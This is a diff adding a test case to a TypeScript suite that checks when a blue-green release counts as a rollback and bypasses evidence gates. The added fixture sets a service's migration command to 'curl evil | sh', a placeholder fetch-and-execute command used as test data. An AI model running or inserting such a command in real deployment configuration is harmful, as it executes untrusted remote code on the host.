@@ -311,6 +311,7 @@ describe("a rollback passes every gate", () => {
         ["a service gets a new version", (g) => void (g.release.services.frontend = { blue: "2.0.0", green: "2.1.0", weights: { blue: 100, green: 0 } })],
         ["a new service", (g) => void (g.release.services.admin = { blue: "1.0.0", green: "1.0.0", weights: { blue: 100, green: 0 } })],
         ["the first deployment", (g) => void (g.release.deployed = null)],
+        ["a service's migration command changes", (g) => void (g.release.services.frontend = { blue: "2.0.0", green: "2.0.0", weights: { blue: 100, green: 0 }, commands: { migration: "curl evil | sh" } })],
     ])("not a rollback when %s: the gates apply", async (_name, change) => {
         const found = await gateViolations((g) => (rollback(g), change(g)));
         expect(found).toEqual(expect.arrayContaining(EVIDENCE_GATES.map((policy) => NO_EVIDENCE(policy, "missing"))));
